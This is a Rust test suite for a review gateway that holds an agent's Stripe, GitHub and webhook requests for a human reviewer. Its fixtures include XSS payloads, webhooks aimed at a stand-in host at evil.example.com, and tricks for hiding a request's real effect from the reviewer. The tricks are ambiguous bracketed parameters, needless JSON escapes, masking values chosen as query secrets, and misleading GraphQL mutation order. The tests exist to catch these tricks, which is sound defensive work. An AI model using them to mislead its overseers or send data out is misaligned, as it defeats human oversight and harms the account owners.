//! Issue 18 item 7: what the reviewer dashboard shows, through a real Airlock (real TLS, the
//! shipped catalog) and a signed-in session: a refund's amount or "full refund of ch_…", every
//! reading of a parameter read two ways (`[amount]`) with a warning, a git push's pack as its
//! size and a hex head (never raw bytes), "decided by" and the comment in the history, the
//! agent's text escaped everywhere, live updates by `/ui/version` (304 while nothing changed),
//! and, in headless Chromium at 800 and 390 px wide, every column (Expires, Approvals) on screen
//! with no sideways scrolling, and a page that updates itself. The screenshots go to the target
//! dir's `test-artifacts/`.

mod support;

use std::sync::Arc;

use support::{Airlock, FakeUpstream};

const HOSTS: &[&str] = &["api.github.com", "api.stripe.com", "github.com"];

struct Setup {
    a: Airlock,
    reviewer_token: String,
    _up: FakeUpstream,
}

async fn setup() -> Setup {
    support::init();
    let up = FakeUpstream::start(Default::default()).await;
    let reviewer_token = airlock::agents::generate_token();
    let toml = format!(
        "[[reviewers]]\nname = \"dana\"\ntoken_sha256 = \"{}\"\n",
        hex::encode(airlock::agents::token_digest(&reviewer_token))
    );
    let dir = tempfile::tempdir().expect("dir");
    let config = Airlock::config(&toml, dir.path(), &up, HOSTS);
    let catalog = airlock::rules::LiveCatalog::load(None, Default::default()).expect("catalog");
    let a =
        Airlock::start_with_parts(config, dir, catalog, Arc::new(airlock::gate::SystemClock)).await;
    Setup {
        a,
        reviewer_token,
        _up: up,
    }
}

/// Sends `body` to `url` through Airlock; it must be held. Returns the review id.
async fn hold(a: &Airlock, url: &str, content_type: &str, body: Vec<u8>) -> String {
    let r = a
        .client()
        .post(url)
        .header("content-type", content_type)
        .body(body)
        .send()
        .await
        .expect("send");
    assert_eq!(r.status(), 423, "{url} was not held");
    r.headers()["airlock-review-id"]
        .to_str()
        .expect("id")
        .to_string()
}

async fn hold_refund(a: &Airlock, form: &str) -> String {
    hold(
        a,
        "https://api.stripe.com/v1/refunds",
        "application/x-www-form-urlencoded",
        form.as_bytes().to_vec(),
    )
    .await
}

fn pkt(payload: &str) -> String {
    format!("{:04x}{payload}", payload.len() + 4)
}

/// A push to main: its command section, then a pack of bytes that are no text at all.
fn push_body() -> Vec<u8> {
    let (old, new) = ("1".repeat(40), "2".repeat(40));
    let mut body = format!(
        "{}0000",
        pkt(&format!("{old} {new} refs/heads/main\0report-status"))
    )
    .into_bytes();
    body.extend_from_slice(b"PACK\0\0\0\x02\0\0\0\x03");
    body.extend((0..4000u32).map(|i| (i * 7 % 256) as u8));
    body
}

fn plain_client() -> reqwest::Client {
    reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .no_proxy()
        .build()
        .expect("client")
}

fn cookie_value(resp: &reqwest::Response, name: &str) -> Option<String> {
    resp.headers()
        .get_all("set-cookie")
        .iter()
        .filter_map(|v| v.to_str().ok())
        .find_map(|v| {
            let first = v.split(';').next()?;
            let (k, val) = first.split_once('=')?;
            (k == name && !val.is_empty()).then(|| val.to_string())
        })
}

fn between<'a>(html: &'a str, marker: &str, end: char) -> &'a str {
    let start = html.find(marker).expect(marker) + marker.len();
    html[start..].split(end).next().expect("value")
}

/// A signed-in dashboard session.
struct Session {
    base: String,
    cookie: String,
    /// What the sign-in page hands the browser's storage; every decision carries it.
    decision_key: String,
    client: reqwest::Client,
}

impl Session {
    async fn open(s: &Setup) -> Session {
        let base = format!("http://{}", s.a.admin_addr);
        let client = plain_client();
        let page = client
            .get(format!("{base}/ui/login"))
            .send()
            .await
            .expect("get");
        let login = cookie_value(&page, "airlock_login").expect("login cookie");
        let csrf = between(
            &page.text().await.expect("html"),
            "name=\"csrf\" value=\"",
            '"',
        )
        .to_string();
        let r = client
            .post(format!("{base}/ui/login"))
            .header("content-type", "application/x-www-form-urlencoded")
            .header("cookie", format!("airlock_login={login}"))
            .body(format!("csrf={csrf}&token={}", s.reviewer_token))
            .send()
            .await
            .expect("post");
        assert_eq!(r.status(), 200);
        let cookie = cookie_value(&r, "airlock_session").expect("session");
        let decision_key =
            between(&r.text().await.expect("html"), "data-decision-key=\"", '"').to_string();
        Session {
            base,
            cookie: format!("airlock_session={cookie}"),
            decision_key,
            client,
        }
    }

    async fn get(&self, path: &str, etag: Option<&str>) -> reqwest::Response {
        let mut rb = self
            .client
            .get(format!("{}{path}", self.base))
            .header("cookie", &self.cookie);
        if let Some(t) = etag {
            rb = rb.header("if-none-match", t);
        }
        rb.send().await.expect("get")
    }

    async fn page(&self, path: &str) -> String {
        let r = self.get(path, None).await;
        assert_eq!(r.status(), 200, "{path}");
        let csp = r.headers()["content-security-policy"]
            .to_str()
            .expect("csp")
            .to_string();
        assert!(
            csp.contains("script-src 'self'") && !csp.contains("'unsafe-eval'"),
            "{csp}"
        );
        assert!(
            !csp.split(';')
                .any(|d| d.contains("script-src") && d.contains("unsafe-inline")),
            "{csp}"
        );
        r.text().await.expect("html")
    }

    async fn decide(&self, id: &str, action: &str, comment: &str) {
        let html = self.page(&format!("/ui/reviews/{id}")).await;
        let csrf = between(&html, "name=\"csrf\" value=\"", '"').to_string();
        let body = form_urlencoded::Serializer::new(String::new())
            .append_pair("csrf", &csrf)
            .append_pair("dk", &self.decision_key)
            .append_pair("action", action)
            .append_pair("comment", comment)
            .finish();
        let r = self
            .client
            .post(format!("{}/ui/reviews/{id}/decide", self.base))
            .header("cookie", &self.cookie)
            .header("origin", &self.base)
            .header("content-type", "application/x-www-form-urlencoded")
            .body(body)
            .send()
            .await
            .expect("decide");
        assert_eq!(r.status(), 200);
        let html = r.text().await.expect("html");
        assert!(html.contains("id=\"message\""), "{html}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn refunds_binary_bodies_history_and_escaping() {
    let s = setup().await;
    let full = hold_refund(&s.a, "charge=ch_123").await;
    let part = hold_refund(&s.a, "charge=ch_456&amount=500").await;
    let priced = hold_refund(&s.a, "payment_intent=pi_7&amount=1999&currency=eur").await;
    let evil = hold_refund(
        &s.a,
        "charge=%3Cscript%3Ealert(1)%3C%2Fscript%3E&metadata[x]=%3Cimg%20src%3Dx%20onerror%3Dalert(2)%3E",
    )
    .await;
    let push = hold(
        &s.a,
        "https://github.com/octo/demo.git/git-receive-pack",
        "application/x-git-receive-pack-request",
        push_body(),
    )
    .await;
    let session = Session::open(&s).await;

    let list = session.page("/ui").await;
    for want in [
        "full refund of ch_123",
        "refund of 500 (minor units of the currency of ch_456)",
        "refund of 19.99 EUR from pi_7",
        "full refund of &lt;script&gt;alert(1)&lt;&#x2f;script&gt;",
    ] {
        assert!(list.contains(want), "{want} missing from the list:\n{list}");
    }
    assert!(
        !list.contains("<script>alert") && !list.contains("<img src=x"),
        "{list}"
    );
    for id in [&full, &part, &priced, &evil, &push] {
        assert!(list.contains(&format!("data-id=\"{id}\"")), "{id} listed");
    }

    // The push's pack: its size and a hex head, not bytes passed off as text.
    let detail = session.page(&format!("/ui/reviews/{push}")).await;
    let body = push_body();
    assert!(
        detail.contains(&format!(
            "[binary body, {} bytes; the first 256 in hex:]",
            body.len()
        )),
        "{detail}"
    );
    // The first line of the dump: offset, hex, and the pkt-line's length and old oid as text.
    assert!(
        detail.contains(
            "00000000  30 30 37 33 31 31 31 31 31 31 31 31 31 31 31 31  |0073111111111111|"
        ),
        "the commands read in the dump: {detail}"
    );
    assert!(!detail.contains('\u{fffd}'), "no replacement characters");
    assert!(
        !detail
            .chars()
            .any(|c| c.is_control() && c != '\n' && c != '\t' && c != '\r'),
        "no raw control bytes"
    );
    // Review of session 16: padding, a control character or a stray byte in front of a
    // parameter pushed it out of view (16 KiB of text shown, or a 256-byte hex head).
    let mut raw = b"charge=ch_9&metadata[note]=\xc2\x85".to_vec();
    raw.extend("A".repeat(17_000).bytes());
    raw.extend(b"&metadata[x]=\xff&reverse_transfer=true&refund_application_fee=true");
    let padded = hold(
        &s.a,
        "https://api.stripe.com/v1/refunds",
        "application/x-www-form-urlencoded",
        raw,
    )
    .await;
    let padded_detail = session.page(&format!("/ui/reviews/{padded}")).await;
    for want in [
        "reverse_transfer=true&amp;refund_application_fee=true",
        "not valid UTF-8",
    ] {
        assert!(padded_detail.contains(want), "{want} missing");
    }
    assert!(!padded_detail.contains("more bytes not shown"));
    let evil_detail = session.page(&format!("/ui/reviews/{evil}")).await;
    assert!(!evil_detail.contains("<img src=x"), "{evil_detail}");

    // Decided by, and the comment, in the history (escaped: the comment is typed text too).
    session
        .decide(&full, "reject", "not today <b>bold</b>")
        .await;
    let history = session.page("/ui/history").await;
    assert!(history.contains("<th>Decided by</th>"), "{history}");
    let row_start = history
        .find(&format!("data-id=\"{full}\""))
        .expect("rejected row");
    let row = &history[row_start..history[row_start..].find("</tr>").expect("row end") + row_start];
    assert!(row.contains("rejected by dana"), "{row}");
    assert!(
        row.contains("dana: not today &lt;b&gt;bold&lt;&#x2f;b&gt;"),
        "{row}"
    );
    let detail = session.page(&format!("/ui/reviews/{full}")).await;
    assert!(detail.contains("id=\"comments\""), "{detail}");
}

/// A call held because its parameters read two ways (`[amount]`, which Rack 2 and qs read as
/// `amount`) shows every reading and a warning, in the list and on its page; a plain charge
/// shows its one amount as before (tests/bypass_corpus.rs holds these as param_ambiguous).
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn ambiguous_parameters_show_every_reading_and_a_warning() {
    let s = setup().await;
    let form = "application/x-www-form-urlencoded";
    let charges = "https://api.stripe.com/v1/charges";
    let bracketed = hold(
        &s.a,
        charges,
        form,
        b"amount=100&currency=usd&source=tok_visa&[amount]=5000000".to_vec(),
    )
    .await;
    let refund = hold_refund(&s.a, "charge=ch_small&[charge]=ch_big").await;
    let plain = hold(
        &s.a,
        charges,
        form,
        b"amount=25000&currency=usd&source=tok_visa".to_vec(),
    )
    .await;
    let session = Session::open(&s).await;
    let list = session.page("/ui").await;
    for want in [
        "1.00 USD or 50000.00 USD",
        "full refund of ch_small or ch_big",
        "Rack 2 and qs read [amount] as amount",
    ] {
        assert!(list.contains(want), "{want} missing from the list:\n{list}");
    }
    assert!(!list.contains("full refund of ch_small<"), "{list}");
    for id in [&bracketed, &refund] {
        let detail = session.page(&format!("/ui/reviews/{id}")).await;
        assert!(detail.contains("id=\"ambiguous\""), "a warning: {detail}");
    }
    let detail = session.page(&format!("/ui/reviews/{bracketed}")).await;
    assert!(detail.contains("1.00 USD or 50000.00 USD"), "{detail}");
    let detail = session.page(&format!("/ui/reviews/{plain}")).await;
    assert!(
        detail.contains("<span class=\"money\">250.00 USD</span>"),
        "{detail}"
    );
    assert!(!detail.contains("id=\"ambiguous\""), "{detail}");
}

/// Text equal to a secret-named query value is masked wherever the request shows it: an agent
/// can pick that value to hide part of its body (here a webhook's destination) from the
/// reviewer, so the page says that it did.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn text_masked_as_a_query_secret_echo_is_flagged() {
    let s = setup().await;
    let hidden = hold(
        &s.a,
        "https://api.github.com/repos/o/r/hooks?x_token=evil.example.com",
        "application/json",
        br#"{"config":{"url":"https://evil.example.com/h"}}"#.to_vec(),
    )
    .await;
    let plain = hold(
        &s.a,
        "https://api.github.com/repos/o/r/hooks",
        "application/json",
        br#"{"config":{"url":"https://hooks.example.org/h"}}"#.to_vec(),
    )
    .await;
    // Security review: the value masked in a header (which account the payout acts on) raised
    // no warning, and read as a plain `[redacted]`.
    let r =
        s.a.client()
            .post("https://api.stripe.com/v1/payouts?metadata%5Btoken%5D=acct_1EvilAcct")
            .header("content-type", "application/x-www-form-urlencoded")
            .header("stripe-account", "acct_1EvilAcct")
            .body("amount=500000&currency=usd")
            .send()
            .await
            .expect("send");
    assert_eq!(r.status(), 423);
    let payout = r.headers()["airlock-review-id"]
        .to_str()
        .expect("id")
        .to_string();
    let session = Session::open(&s).await;
    let detail = session.page(&format!("/ui/reviews/{payout}")).await;
    assert!(detail.contains("id=\"masked-echo\""), "{detail}");
    assert!(
        detail.contains("a masked value also appears elsewhere")
            && detail.contains("query parameter metadata[token] shows again"),
        "{detail}"
    );
    assert!(
        detail.contains(
            "stripe-account: [redacted: same value as secret-named query parameter metadata[token]]"
        ),
        "{detail}"
    );
    assert!(!detail.contains("acct_1EvilAcct"), "{detail}");
    let list = session.page("/ui").await;
    assert!(list.contains("class=\"warn masked-echo\""), "{list}");
    let detail = session.page(&format!("/ui/reviews/{hidden}")).await;
    assert!(detail.contains("id=\"masked-echo\""), "{detail}");
    assert!(
        !detail.contains("evil.example.com"),
        "still masked: {detail}"
    );
    let detail = session.page(&format!("/ui/reviews/{plain}")).await;
    assert!(!detail.contains("id=\"masked-echo\""), "{detail}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn version_answers_304_until_a_review_changes() {
    let s = setup().await;
    let session = Session::open(&s).await;
    let page = session.page("/ui").await;
    let version = between(&page, "data-version=\"", '"').to_string();
    assert!(page.contains("<script src=\"/ui/live.js\" defer></script>"));

    let r = session.get("/ui/version", None).await;
    assert_eq!(r.status(), 200);
    let etag = r.headers()["etag"].to_str().expect("etag").to_string();
    assert_eq!(
        etag,
        format!("\"{version}\""),
        "the page's version is current"
    );
    let r = session.get("/ui/version", Some(&etag)).await;
    assert_eq!(r.status(), 304, "nothing changed");
    assert_eq!(r.headers()["etag"].to_str().expect("etag"), etag);

    let id = hold_refund(&s.a, "charge=ch_live").await;
    let r = session.get("/ui/version", Some(&etag)).await;
    assert_eq!(r.status(), 200, "a new hold changes the version");
    let next = r.headers()["etag"].to_str().expect("etag").to_string();
    assert_ne!(next, etag);
    let page = session.page("/ui").await;
    assert_eq!(
        format!("\"{}\"", between(&page, "data-version=\"", '"')),
        next
    );
    assert!(page.contains(&id));
    session.decide(&id, "reject", "").await;
    assert_eq!(session.get("/ui/version", Some(&next)).await.status(), 200);
    // The detail page reloads by GET, whatever URL showed it (`/` is escaped in attributes).
    let detail = session.page(&format!("/ui/reviews/{id}")).await;
    assert!(
        detail.contains(&format!("data-self=\"&#x2f;ui&#x2f;reviews&#x2f;{id}\"")),
        "{detail}"
    );

    // Not signed in: 401 for the script, nothing about the reviews.
    let r = plain_client()
        .get(format!("{}/ui/version", session.base))
        .send()
        .await
        .expect("get");
    assert_eq!(r.status(), 401);
    assert!(r.headers().get("etag").is_none());
    // The script is static, same-origin and typed.
    let r = plain_client()
        .get(format!("{}/ui/live.js", session.base))
        .send()
        .await
        .expect("get");
    assert_eq!(r.status(), 200);
    assert_eq!(
        r.headers()["content-type"],
        "text/javascript; charset=utf-8"
    );
    assert_eq!(r.headers()["x-content-type-options"], "nosniff");
}

/// Where screenshots go: the target dir's `test-artifacts/`.
fn artifacts() -> std::path::PathBuf {
    let target = std::env::var_os("CARGO_TARGET_DIR")
        .map(std::path::PathBuf::from)
        .unwrap_or_else(|| std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("target"));
    let dir = target.join("test-artifacts");
    std::fs::create_dir_all(&dir).expect("artifacts dir");
    dir
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn chromium_at_800_and_390_px_shows_every_column_and_updates_itself() {
    use tokio::io::AsyncBufReadExt;
    let browser_dir = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/browser");
    let chromium = std::env::var("CHROMIUM").unwrap_or_else(|_| "/usr/bin/chromium".into());
    let ready = std::path::Path::new(&chromium).exists()
        && std::path::Path::new(browser_dir)
            .join("node_modules/playwright-core")
            .exists();
    if !ready {
        assert!(
            std::env::var_os("AIRLOCK_ALLOW_NO_BROWSER").is_some(),
            "needs Debian's chromium and `npm ci` in tests/browser (.ci/run does both)"
        );
        eprintln!("skipping: no chromium/playwright-core and AIRLOCK_ALLOW_NO_BROWSER set");
        return;
    }
    let s = setup().await;
    let first = hold_refund(
        &s.a,
        "charge=ch_a_rather_long_charge_identifier_0123456789&amount=2500",
    )
    .await;
    hold(
        &s.a,
        "https://github.com/octo/demo.git/git-receive-pack",
        "application/x-git-receive-pack-request",
        push_body(),
    )
    .await;
    let session = Session::open(&s).await;
    session
        .decide(
            &first,
            "reject",
            "a reviewer's comment that is long enough to wrap on a phone screen",
        )
        .await;
    hold_refund(&s.a, "charge=ch_pending").await;
    let shots = artifacts();
    let mut child = tokio::process::Command::new("node")
        .arg(format!("{browser_dir}/responsive.mjs"))
        .env("DASHBOARD_URL", &session.base)
        .env("REVIEWER_TOKEN", &s.reviewer_token)
        .env("REVIEW_ID", &first)
        .env("SCREENSHOTS", &shots)
        .env("CHROMIUM", &chromium)
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .kill_on_drop(true)
        .spawn()
        .expect("node");
    let mut lines = tokio::io::BufReader::new(child.stdout.take().expect("stdout")).lines();
    let mut seen = Vec::new();
    let mut held_live = None;
    while let Some(line) = lines.next_line().await.expect("read") {
        seen.push(line.clone());
        if line.starts_with("WAITING") {
            // The page is open: a new hold must appear on it without anyone reloading it.
            held_live = Some(hold_refund(&s.a, "charge=ch_arrives_live").await);
        }
    }
    let out = child.wait_with_output().await.expect("node");
    let text = format!(
        "{}\n{}",
        seen.join("\n"),
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(out.status.success(), "{text}");
    let held_live = held_live.expect("the script waited for a live update");
    assert!(
        seen.iter().any(|l| l == &format!("LIVE {held_live}")),
        "{text}"
    );
    for width in [800, 390] {
        assert!(
            seen.iter().any(|l| l == &format!("WIDTH {width} OK")),
            "{text}"
        );
        for page in ["pending", "history", "detail"] {
            let shot = shots.join(format!("dashboard-{page}-{width}.png"));
            assert!(shot.exists(), "{} written", shot.display());
        }
    }
}

/// Review: a JSON body spelled with `\u` escapes of characters that need none read one way as
/// bytes and another to every parser (`"\u006e\u0065\u0077_owner":"\u0065\u0076…"` is
/// `new_owner=evil-org`): the detail page showed only the escapes, and a key spelled
/// `c\u006fnfig` hid a webhook's destination from the Arguments. The decoded reading shows on
/// the page, in the list and in the admin API's review (what `airlock reviews show` prints).
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn json_spelled_with_needless_escapes_shows_its_decoded_reading() {
    let s = setup().await;
    let transfer = hold(
        &s.a,
        "https://api.github.com/repos/acme/prod/transfer",
        "application/json",
        br#"{"description":"move to our sandbox org acme-sandbox","\u006e\u0065\u0077_owner":"\u0065\u0076\u0069\u006c\u002d\u006f\u0072\u0067"}"#.to_vec(),
    )
    .await;
    let hook = hold(
        &s.a,
        "https://api.github.com/repos/acme/prod/hooks",
        "application/json",
        br#"{"c\u006fnfig":{"url":"https://ci.acme-corp.com:aaaa@evil.example/collect"}}"#.to_vec(),
    )
    .await;
    let session = Session::open(&s).await;
    let detail = session.page(&format!("/ui/reviews/{transfer}")).await;
    assert!(detail.contains("id=\"escapes\""), "{detail}");
    assert!(detail.contains("new_owner=evil-org"), "{detail}");
    assert!(detail.contains("id=\"request-decoded\""), "{detail}");
    assert!(
        detail.contains("&quot;new_owner&quot;:&quot;evil-org&quot;"),
        "{detail}"
    );
    let list = session.page("/ui").await;
    assert!(list.contains("class=\"warn escapes\""), "{list}");
    let detail = session.page(&format!("/ui/reviews/{hook}")).await;
    assert!(
        detail.contains("config.url=https:&#x2f;&#x2f;ci.acme-corp.com:aaaa@evil.example&#x2f;collect [host evil.example;"),
        "{detail}"
    );
    let (st, r) =
        s.a.admin("GET", &format!("/v1/reviews/{transfer}"), None)
            .await;
    assert_eq!(st, 200, "{r}");
    assert!(
        r["request"]["bodyDecoded"]
            .as_str()
            .is_some_and(|b| b.contains(r#""new_owner":"evil-org""#)),
        "{r}"
    );
    assert!(
        r["summary"]["warnings"].as_array().is_some_and(|l| l
            .iter()
            .any(|w| w.as_str().is_some_and(|w| w.contains("new_owner=evil-org")))),
        "{r}"
    );
    let (_, plain) = s.a.admin("GET", &format!("/v1/reviews/{hook}"), None).await;
    assert!(plain["request"]["bodyDecoded"].is_string(), "{plain}");
}

/// Review: a request several rules held was shown under the first rule's tool only, and the
/// agent chooses their order (`mutation { a: addLabelsToLabelable … b:
/// deleteBranchProtectionRule … }` read as a label change). Every tool is named, in the title
/// and the list's Tool column, and in the admin API's `alsoTools`.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn every_tied_rules_tool_is_named() {
    let s = setup().await;
    let query = r#"{"query":"mutation { a: addLabelsToLabelable(input: {labelableId: \"I_1\", labelIds: [\"L_1\"]}) { clientMutationId } b: deleteBranchProtectionRule(input: {branchProtectionRuleId: \"BPR_1\"}) { clientMutationId } }"}"#;
    let id = hold(
        &s.a,
        "https://api.github.com/graphql",
        "application/json",
        query.as_bytes().to_vec(),
    )
    .await;
    let (_, r) = s.a.admin("GET", &format!("/v1/reviews/{id}"), None).await;
    let names = "github.graphql.addLabelsToLabelable + github.graphql.deleteBranchProtectionRule";
    assert_eq!(r["tool"], "github.graphql.addLabelsToLabelable", "{r}");
    assert_eq!(
        r["alsoTools"],
        serde_json::json!(["github.graphql.deleteBranchProtectionRule"]),
        "{r}"
    );
    let session = Session::open(&s).await;
    let detail = session.page(&format!("/ui/reviews/{id}")).await;
    assert!(detail.contains(&format!("<h1>{names} <span")), "{detail}");
    let list = session.page("/ui").await;
    assert!(
        list.contains(&format!(
            "<td class=\"tool\" data-label=\"Tool\">{names}</td>"
        )),
        "{list}"
    );
}
